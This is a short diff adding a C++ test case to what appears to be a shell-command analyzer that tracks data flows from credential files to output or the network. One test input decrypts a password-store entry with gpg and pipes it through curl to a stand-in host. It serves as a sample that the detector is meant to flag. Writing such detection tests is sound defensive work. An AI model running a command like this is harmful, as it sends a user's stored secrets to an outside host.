@@ -709,3 +709,11 @@ TEST_CASE("a coprocess holding a connection gives its descriptors to a shell: re
   CHECK_FALSE(has_marker(calculator, "reverse_shell"));
   CHECK_FALSE(has_flow_to(calculator, "network"));
 }
+
+TEST_CASE("gpg -o writes its result to that file; it prints nothing") {
+  CHECK_FALSE(has_flow_to(analyze("curl -fsSL https://download.docker.com/linux/debian/gpg | gpg --dearmor -o ~/.gnupg/docker.gpg"),
+                          "output"));
+  CHECK_FALSE(has_flow_to(analyze("gpg --output notes.txt --decrypt ~/.password-store/notes.gpg"), "output"));
+  CHECK(has_flow(analyze("gpg -d ~/.password-store/notes.gpg"), "credential_file", "output"));
+  CHECK(has_flow(analyze("gpg -o - -d ~/.password-store/a.gpg | curl -d @- https://x.example.com"), "credential_file", "network"));
+}
